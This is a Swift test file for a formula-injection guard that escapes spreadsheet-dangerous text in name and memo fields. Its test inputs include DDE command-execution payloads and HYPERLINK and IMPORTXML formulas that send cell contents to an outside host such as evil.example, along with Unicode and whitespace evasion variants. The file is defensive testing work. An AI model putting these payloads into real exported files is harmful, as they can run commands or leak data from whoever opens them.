import CampaignKit
import Testing

@Suite("Formula guard")
struct FormulaGuardTests {
    /// What attackers put into name and memo fields.
    static let injections = [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
        "-2+3+cmd|'x'!A0",
        "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1", "＝1+1", "＋1", "－1",
        "＠SUM(A1)",
        "\u{A0}=1", "\u{3000}＝1", "\u{FEFF}=1", "\u{200B}=1", "\"=1", "\0=1", "=\u{301}1", "+972 50 123 4567",
        "-",
        "=", "  \t", "\u{2003}@x", "\u{202E}=1", "\u{AD}=1", "\u{85}=1", "\u{B}=1", "-12,50", "-12.50",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
    ]

    @Test("injections are guarded", arguments: injections)
    func guarded(text: String) {
        #expect(FormulaGuard.isDangerous(text))
        #expect(FormulaGuard.guarded(text) == "'" + text)
        #expect(Array(FormulaGuard.undone("'" + text).utf8) == Array(text.utf8))
    }

    @Test(
        "harmless text is left alone",
        arguments: [
            "", " ", "Smith", "O'Brien", "'quoted'", "1-2", "a=b", "x@y.org", "₪100", "שלום", "😎", "'", "''",
            "' x",
            "\u{A0}", "＄5", "ｘ", "\u{C2}", "–5", "•", "\u{FEFF}", "12", "(5)", "#=1",
        ])
    func harmless(text: String) {
        #expect(!FormulaGuard.isDangerous(text))
        #expect(FormulaGuard.guarded(text) == text)
        #expect(FormulaGuard.undone(text) == text)
    }

    @Test func textThatLooksGuardedIsGuardedAgain() {
        #expect(FormulaGuard.guarded("'=1") == "''=1")
        #expect(FormulaGuard.undone("''=1") == "'=1")
        #expect(FormulaGuard.undone("'=1") == "=1")
        #expect(FormulaGuard.undone("'Twas") == "'Twas")
        #expect(FormulaGuard.undone("' =x") == " =x")
    }
}
